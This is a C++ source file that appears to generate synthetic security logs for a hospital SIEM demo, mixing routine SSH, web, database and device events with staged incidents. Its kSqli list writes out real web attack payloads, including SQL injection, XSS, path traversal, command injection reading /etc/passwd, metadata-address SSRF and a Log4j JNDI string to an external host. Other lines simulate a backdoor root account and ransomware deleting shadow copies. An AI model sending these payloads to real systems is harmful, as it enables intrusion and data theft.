#include "demo/generator.h"

#include <cstdio>

#include "core/timeutil.h"

namespace wardsec::demo {
namespace {

constexpr const char* kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
constexpr int kTz = 8 * 3600;  // the hospital's devices log in China Standard Time

// Servers of the core business zone (10.20.0.0/22) and the others, per the demo hospital.
constexpr const char* kLinuxHosts[] = {"his-app-01", "his-app-02", "emr-app-01",   "lis-app-01",    "pacs-app-01",
                                       "ris-app-01", "esb-app-01", "ihosp-web-01", "portal-web-01", "backup-01"};
constexpr const char* kStaff[] = {"zhangwei", "liyang", "wangfang", "chenjing", "liuqiang", "yangmin"};
constexpr const char* kServiceAccounts[] = {"hisapp", "emrsvc", "lisapp", "pacsadm", "oracle", "esbuser"};
constexpr const char* kBruteUsers[] = {"root", "admin", "oracle", "test", "user", "postgres", "ubuntu", "guest", "mysql", "ftpuser"};
constexpr const char* kDoctors[] = {"王建国", "李秀英", "张伟", "刘洋", "陈静", "杨磊", "赵敏", "黄婷"};
constexpr const char* kDepts[] = {"心内科", "呼吸内科", "普外科", "骨科", "儿科", "妇产科", "急诊科", "肿瘤科"};
constexpr const char* kUserAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.44",
    "Mozilla/5.0 (Linux; Android 13; V2302A) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15"};
constexpr const char* kPortalPaths[] = {"/api/appointment/departments",
                                        "/api/appointment/doctors?deptId=1203",
                                        "/api/appointment/slots?doctorId=88&date=2026-11-27",
                                        "/api/patient/profile",
                                        "/api/report/list?cardNo=0012345678",
                                        "/static/js/app.3f2a1c.js",
                                        "/static/css/main.css",
                                        "/api/pay/order/status?orderNo=WX20261126001234",
                                        "/api/queue/status?deptId=1105",
                                        "/index.html",
                                        "/api/news/list?page=1"};
constexpr const char* kSqli[] = {
    "/api/appointment/doctors?deptId=1203%27%20OR%20%271%27=%271",
    "/api/report/list?cardNo=0012345678%27%20UNION%20SELECT%20username,password%20FROM%20sys_user--",
    "/api/appointment/slots?doctorId=88;WAITFOR%20DELAY%20%270:0:5%27--", "/api/news/list?page=1%20AND%20SLEEP(5)",
    "/api/patient/profile?id=1%20AND%201=CONVERT(int,(SELECT%20@@version))", "/login.jsp?user=admin%27--&pass=x",
    // The same scanner tries the other classes too (the console's web-attack page shows each).
    "/api/news/search?kw=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/portal/notice?title=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/api/report/download?file=../../../../etc/passwd",
    "/api/tools/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/preview?url=http://169.254.169.254/latest/meta-data/",
    "/index.php?page=php://filter/convert.base64-encode/resource=index.php", "/.git/config",
    "/api/search?q=${jndi:ldap://45.95.147.201:1389/a}"};

}  // namespace

Generator::Generator(uint64_t seed) : rng_(seed) {}

int Generator::uniform(int lo, int hi) { return std::uniform_int_distribution<int>(lo, hi)(rng_); }

std::string Generator::pick(const char* const* list, size_t n) { return list[uniform(0, static_cast<int>(n) - 1)]; }

std::string Generator::ip(const char* prefix, int lo, int hi) { return std::string(prefix) + std::to_string(uniform(lo, hi)); }

std::string Generator::internet_ip() {
  static constexpr const char* kNets[] = {"45.95.147.", "185.220.101.", "103.145.13.", "61.177.172.", "218.92.0.", "193.142.146."};
  return pick(kNets) + std::to_string(uniform(2, 250));
}

std::string Generator::header(int pri, int64_t ts, const std::string& host, const std::string& tag) {
  int64_t s = ts / 1000000000 + kTz;
  int64_t days = s / 86400, rem = s % 86400;
  // civil from days (same algorithm as core/timeutil.cc)
  int64_t z = days + 719468, era = z / 146097;
  unsigned doe = static_cast<unsigned>(z - era * 146097);
  unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
  unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100), mp = (5 * doy + 2) / 153;
  unsigned d = doy - (153 * mp + 2) / 5 + 1, m = mp < 10 ? mp + 3 : mp - 9;
  char buf[96];
  std::snprintf(buf, sizeof buf, "<%d>%s %2u %02lld:%02lld:%02lld ", pri, kMonths[m - 1], d, static_cast<long long>(rem / 3600),
                static_cast<long long>(rem / 60 % 60), static_cast<long long>(rem % 60));
  return std::string(buf) + host + " " + tag + ": ";
}

static int hour_of(int64_t ts) { return static_cast<int>(((ts / 1000000000 + kTz) % 86400) / 3600); }
static std::string clf_time(int64_t ts) {
  int64_t s = ts / 1000000000 + kTz;
  int64_t days = s / 86400, rem = s % 86400;
  int64_t z = days + 719468, era = z / 146097;
  unsigned doe = static_cast<unsigned>(z - era * 146097);
  unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
  int64_t y = static_cast<int64_t>(yoe) + era * 400;
  unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100), mp = (5 * doy + 2) / 153;
  unsigned d = doy - (153 * mp + 2) / 5 + 1, m = mp < 10 ? mp + 3 : mp - 9;
  if (m <= 2) y++;
  char buf[64];
  std::snprintf(buf, sizeof buf, "%02u/%s/%04lld:%02lld:%02lld:%02lld +0800", d, kMonths[m - 1], static_cast<long long>(y),
                static_cast<long long>(rem / 3600), static_cast<long long>(rem / 60 % 60), static_cast<long long>(rem % 60));
  return buf;
}

std::string Generator::sshd(int64_t ts) {
  int i = uniform(0, 9);
  std::string host = kLinuxHosts[i];
  std::string user = uniform(0, 2) ? pick(kStaff) : pick(kServiceAccounts);
  std::string src = ip("10.30.0.", 10, 12);  // logins come through the bastion in the ops zone
  int port = uniform(32768, 60999);
  std::string h = header(86, ts, host, "sshd[" + std::to_string(++pid_) + "]");
  switch (uniform(0, 5)) {
    case 0:
      return h + "Accepted publickey for " + user + " from " + src + " port " + std::to_string(port) +
             " ssh2: RSA SHA256:q3Zy8cE1Yk2bJtq0b2V0dZs9rQeqKJ6nL4e3hUxS0oA";
    case 1: return h + "Accepted password for " + user + " from " + src + " port " + std::to_string(port) + " ssh2";
    case 2: return h + "pam_unix(sshd:session): session opened for user " + user + "(uid=1001) by (uid=0)";
    case 3: return h + "pam_unix(sshd:session): session closed for user " + user;
    case 4: return h + "Received disconnect from " + src + " port " + std::to_string(port) + ":11: disconnected by user";
    default: return h + "Failed password for " + user + " from " + src + " port " + std::to_string(port) + " ssh2";
  }
}

std::string Generator::brute_force(int64_t ts) {
  std::string src = "45.95.147." + std::to_string(200 + uniform(0, 3));
  std::string user = pick(kBruteUsers);
  int port = uniform(32768, 60999);
  std::string h = header(38, ts, "portal-web-01", "sshd[" + std::to_string(++pid_) + "]");
  if (user == "root") return h + "Failed password for root from " + src + " port " + std::to_string(port) + " ssh2";
  if (uniform(0, 1)) return h + "Invalid user " + user + " from " + src + " port " + std::to_string(port);
  return h + "Failed password for invalid user " + user + " from " + src + " port " + std::to_string(port) + " ssh2";
}

std::string Generator::nginx(int64_t ts) {
  std::string client = uniform(0, 3) ? ip("223.104.", 1, 254) + "." + std::to_string(uniform(1, 254))
                                     : ip("10.50.", 0, 15) + "." + std::to_string(uniform(2, 254));
  std::string path = pick(kPortalPaths);
  int status = uniform(0, 30) ? 200 : (uniform(0, 1) ? 404 : 302);
  std::string method = path.rfind("/api/pay", 0) == 0 || uniform(0, 9) == 0 ? "POST" : "GET";
  return header(190, ts, "ihosp-web-01", "nginx") + client + " - - [" + clf_time(ts) + "] \"" + method + " " + path + " HTTP/1.1\" " +
         std::to_string(status) + " " + std::to_string(uniform(200, 48000)) + " \"https://yy.demo-hospital.cn/\" \"" + pick(kUserAgents) +
         "\"";
}

std::string Generator::sqli(int64_t ts) {
  std::string client = "103.145.13." + std::to_string(uniform(10, 12));
  return header(190, ts, "portal-web-01", "nginx") + client + " - - [" + clf_time(ts) + "] \"GET " + pick(kSqli) + " HTTP/1.1\" " +
         (uniform(0, 1) ? "403" : "500") + " 162 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"";
}

std::string Generator::firewall(int64_t ts) {
  std::string src = uniform(0, 1) ? internet_ip() : ip("10.50.", 0, 15) + "." + std::to_string(uniform(2, 254));
  bool drop = uniform(0, 3) == 0;
  static constexpr int kPorts[] = {22, 80, 443, 1433, 1521, 3306, 3389, 445, 8080, 104};
  int dpt = kPorts[uniform(0, 9)];
  return header(4, ts, "fw-core-01", "kernel") + "[" + std::to_string(uniform(100000, 999999)) + "." +
         std::to_string(uniform(100000, 999999)) + "] " + (drop ? "IPT-DROP: " : "IPT-ACCEPT: ") +
         "IN=eth1 OUT=eth2 MAC=00:1b:21:3a:4f:10:00:1c:73:aa:01:02:08:00 SRC=" + src + " DST=10.20.0." + std::to_string(uniform(11, 41)) +
         " LEN=60 TOS=0x00 PREC=0x00 TTL=" + std::to_string(uniform(40, 64)) + " ID=" + std::to_string(uniform(1, 65535)) +
         " DF PROTO=TCP SPT=" + std::to_string(uniform(1024, 65535)) + " DPT=" + std::to_string(dpt) + " WINDOW=64240 RES=0x00 SYN URGP=0";
}

std::string Generator::ngfw_cef(int64_t ts) {
  static constexpr const char* kThreats[] = {"Apache Log4j RCE Attempt|9", "SMB Brute Force|7", "Port Scan Detected|5",
                                             "Cobalt Strike Beacon|10", "Mining Pool Connection|6"};
  std::string t = pick(kThreats);
  size_t bar = t.find('|');
  return header(132, ts, "ngfw-dmz-01", "NGFW") + "CEF:0|Hillstone|SG-6000|5.5R9|" + std::to_string(uniform(30000, 39999)) + "|" +
         t.substr(0, bar) + "|" + t.substr(bar + 1) + "|src=" + internet_ip() + " spt=" + std::to_string(uniform(1024, 65535)) +
         " dst=10.40.0." + std::to_string(uniform(21, 22)) + " dpt=443 proto=TCP act=deny cs1Label=zone cs1=互联网接入区";
}

std::string Generator::switch_log(int64_t ts) {
  static constexpr const char* kMsgs[] = {
      "%%01IFNET/4/LINK_STATE(l)[12]:The line protocol IP on the interface GigabitEthernet0/0/12 has entered the UP state.",
      "%%01SHELL/5/CMDRECORD(s)[3]:Recorded command information. (Task=VT0, Ip=10.30.0.10, VpnName=, User=netadmin, "
      "AuthenticationMethod=\"Local-user\", Command=\"display interface brief\")",
      "%%01SSH/5/SSH_USER_LOGIN(s)[4]:The SSH user succeeded in logging in. (UserName=netadmin, IPAddress=10.30.0.10, VpnInstanceName=)",
      "%%01MSTP/4/PROPORT_STATE_FORWARDING(l)[5]:The port has been set to forwarding state. (ProcessID=0, InstanceID=0, "
      "PortName=GigabitEthernet0/0/3)",
      "%%01ARP/4/ARP_DUPLICATE_IPADDR(l)[6]:Received an ARP packet with a duplicate IP address from the interface. (IpAddress=10.50.3.27, "
      "InterfaceName=Vlanif50)"};
  return header(189, ts, "sw-core-0" + std::to_string(uniform(1, 2)), "SW") + pick(kMsgs);
}

std::string Generator::his_app(int64_t ts) {
  static constexpr const char* kActions[] = {"门诊挂号", "开具处方", "医嘱录入", "收费结算", "检验申请", "病历书写", "住院登记"};
  char buf[512];
  std::snprintf(
      buf, sizeof buf,
      "{\"app\":\"HIS\",\"module\":\"outpatient\",\"user.name\":\"%s\",\"doctor\":\"%s\",\"dept\":\"%s\","
      "\"action\":\"%s\",\"patient_id\":\"P%08d\",\"source.ip\":\"10.50.%d.%d\",\"duration_ms\":%d,\"event.outcome\":\"success\"}",
      ("d" + std::to_string(uniform(1000, 1300))).c_str(), pick(kDoctors).c_str(), pick(kDepts).c_str(), pick(kActions).c_str(),
      uniform(1, 9999999), uniform(0, 15), uniform(2, 254), uniform(5, 800));
  return header(134, ts, "his-app-0" + std::to_string(uniform(1, 2)), "his-app") + buf;
}

// Database statements as the center's database-audit capture input records them (one JSON
// object per statement, docs/dbaudit.md): the HIS application's everyday queries.
std::string Generator::db_server(int64_t ts) {
  static constexpr const char* kStmts[] = {
      "SELECT * FROM OUTP_ORDERS WHERE PATIENT_ID = 'P%08d'", "UPDATE PAT_VISIT SET DISCHARGE_DATE = SYSDATE WHERE PATIENT_ID = 'P%08d'",
      "INSERT INTO OUTP_BILL_ITEMS VALUES (%d, 1, 'A01', 12.5)", "SELECT ITEM_NAME, AMOUNT FROM OUTP_BILL_ITEMS WHERE VISIT_NO = %d",
      "SELECT * FROM DRUG_PRESC_DETAIL WHERE PRESC_NO = %d"};
  static constexpr const char* kApps[] = {"his_app", "emr_app", "lis_app"};
  char stmt[160];
  std::snprintf(stmt, sizeof stmt, kStmts[uniform(0, 4)], uniform(1, 9999999));
  return db_statement(ts, pick(kApps), "10.20.0.1" + std::to_string(uniform(1, 2)), "HIS", stmt, uniform(0, 40));
}

std::string Generator::db_statement(int64_t ts, const std::string& user, const std::string& ip, const std::string& program,
                                    const std::string& stmt, int rows) {
  std::string esc;
  for (char c : stmt) {
    if (c == '"' || c == '\\') esc += '\\';
    esc += c;
  }
  return "{\"@timestamp\":\"" + format_rfc3339(ts) +
         "\",\"event.dataset\":\"dbaudit.statement\",\"db.system\":\"oracle\",\"db.name\":\"HIS\"," + "\"db.user.name\":\"" + user +
         "\",\"source.ip\":\"" + ip + "\",\"destination.ip\":\"10.20.0.13\",\"client.program\":\"" + program + "\",\"db.statement\":\"" +
         esc + "\",\"db.response.returned_rows\":" + std::to_string(rows) + "}";
}

std::string Generator::auditd(int64_t ts) {
  char buf[512];
  std::snprintf(buf, sizeof buf,
                "type=USER_LOGIN msg=audit(%lld.%03d:%d): pid=%d uid=0 auid=1001 ses=%d subj=unconfined msg='op=login id=1001 "
                "exe=\"/usr/sbin/sshd\" hostname=10.30.0.10 addr=10.30.0.10 terminal=ssh res=success'",
                static_cast<long long>(ts / 1000000000), uniform(0, 999), uniform(10000, 99999), ++pid_, uniform(1, 500));
  return header(85, ts, pick(kLinuxHosts), "audispd") + buf;
}

std::string Generator::sudo(int64_t ts) {
  static constexpr const char* kCmds[] = {"/usr/bin/systemctl restart his-app", "/usr/bin/tail -n 200 /var/log/his/app.log",
                                          "/usr/bin/df -h", "/usr/sbin/ss -tnlp", "/usr/bin/yum -y update openssl"};
  std::string u = pick(kStaff);
  return header(85, ts, pick(kLinuxHosts), "sudo") + u + " : TTY=pts/" + std::to_string(uniform(0, 4)) + " ; PWD=/home/" + u +
         " ; USER=root ; COMMAND=" + pick(kCmds);
}

std::string Generator::pacs(int64_t ts) {
  return header(134, ts, "pacs-app-01", "dcmqrscp[" + std::to_string(++pid_) + "]") + "C-STORE from CT-01 (10.60.0." +
         std::to_string(uniform(11, 20)) + ") study 1.2.840.113619.2." + std::to_string(uniform(100000, 999999)) +
         " images=" + std::to_string(uniform(80, 600)) + " status=Success";
}

std::string Generator::device_to_internet(int64_t ts) {
  return header(4, ts, "fw-core-01", "kernel") +
         "IPT-ACCEPT: IN=eth3 OUT=eth0 SRC=10.60.1.23 DST=193.142.146.35 LEN=60 TOS=0x00 PREC=0x00 TTL=127 ID=" +
         std::to_string(uniform(1, 65535)) + " DF PROTO=TCP SPT=" + std::to_string(uniform(49152, 65535)) +
         " DPT=4444 WINDOW=8192 RES=0x00 SYN URGP=0";
}

std::string Generator::tongfang(int64_t ts) {
  return db_statement(
      ts, "his_query", "10.50.7.88", "PL/SQL Developer",
      "SELECT d.DOCTOR_NAME, p.DRUG_NAME, SUM(p.QUANTITY) FROM DRUG_PRESC_DETAIL p JOIN STAFF_DICT d ON p.PRESCRIBED_BY = d.EMP_NO "
      "WHERE p.PRESC_DATE >= DATE '2026-11-01' GROUP BY d.DOCTOR_NAME, p.DRUG_NAME",
      uniform(800, 3000));
}

std::string Generator::new_admin(int64_t ts) {
  if (uniform(0, 1))
    return header(86, ts, "emr-app-01", "useradd[" + std::to_string(++pid_) + "]") +
           "new user: name=sysbak, UID=0, GID=0, home=/home/sysbak, shell=/bin/bash, from=/dev/pts/2";
  return header(86, ts, "emr-app-01", "usermod[" + std::to_string(++pid_) + "]") + "add 'sysbak' to group 'wheel'";
}

std::string Generator::audit_off(int64_t ts) {
  char buf[256];
  std::snprintf(buf, sizeof buf, "type=CONFIG_CHANGE msg=audit(%lld.%03d:%d): auid=1003 ses=%d op=set audit_enabled=0 old=1 res=1",
                static_cast<long long>(ts / 1000000000), uniform(0, 999), uniform(10000, 99999), uniform(1, 500));
  return header(85, ts, "his-db-01", "audispd") + buf;
}

// The nightly restore test: last night's HIS backup restored to the standby and checked.
std::string Generator::backup_verify(int64_t ts) {
  return header(78, ts, "backup-01", "bacula-dir") + "JobId " + std::to_string(uniform(5000, 9000)) +
         ": Restore OK -- HIS_DB_Restore_Test " + std::to_string(uniform(300, 420)) + ".2 GB restored to his-db-standby";
}

std::string Generator::backup(int64_t ts) {
  return header(78, ts, "backup-01", "bacula-dir") + "JobId " + std::to_string(uniform(5000, 9000)) + ": Backup OK -- HIS_DB_Full " +
         std::to_string(uniform(300, 420)) + ".2 GB in 01:" + std::to_string(uniform(10, 59)) + ":00";
}

std::vector<std::string> Generator::ransomware(int64_t ts) {
  n_ += 3;
  std::string t = format_rfc3339(ts);
  auto ev = [&](int id, const std::string& data) {
    return "{\"@timestamp\":\"" + t + "\",\"Event\":{\"System\":{\"EventID\":" + std::to_string(id) +
           ",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"his-app-01\"},\"EventData\":{" + data + "}}}";
  };
  return {ev(1,
             "\"Image\":\"C:\\\\Windows\\\\System32\\\\vssadmin.exe\",\"CommandLine\":\"vssadmin.exe Delete Shadows /All /Quiet\","
             "\"User\":\"HIS\\\\his_svc\""),
          ev(11, "\"Image\":\"C:\\\\Users\\\\Public\\\\svchost.exe\",\"TargetFilename\":\"D:\\\\HIS\\\\data\\\\HOW_TO_DECRYPT.txt\""),
          ev(11, "\"Image\":\"C:\\\\Users\\\\Public\\\\svchost.exe\",\"TargetFilename\":\"D:\\\\HIS\\\\data\\\\his_main.mdf.locked\"")};
}

std::string Generator::next(int64_t ts) {
  n_++;
  int h = hour_of(ts);
  int r = uniform(0, 999);
  // Incidents, rare and at their story's hours.
  if (r < 12) return brute_force(ts);
  if (r < 16) return sqli(ts);
  if (r < 17 && (h == 22 || h == 23)) return tongfang(ts);
  if (r == 17) return device_to_internet(ts);
  if (r == 18 && uniform(0, 20) == 0) return new_admin(ts);
  if (r == 19 && uniform(0, 50) == 0) return audit_off(ts);
  if (r < 25 && h == 2) return backup(ts);
  if (r < 20 && h == 3) return backup_verify(ts);
  // Everyday traffic.
  if (r < 330) return nginx(ts);
  if (r < 500) return firewall(ts);
  if (r < 640) return his_app(ts);
  if (r < 720) return db_server(ts);
  if (r < 800) return sshd(ts);
  if (r < 860) return switch_log(ts);
  if (r < 900) return auditd(ts);
  if (r < 940) return sudo(ts);
  if (r < 970) return pacs(ts);
  return ngfw_cef(ts);
}

}  // namespace wardsec::demo
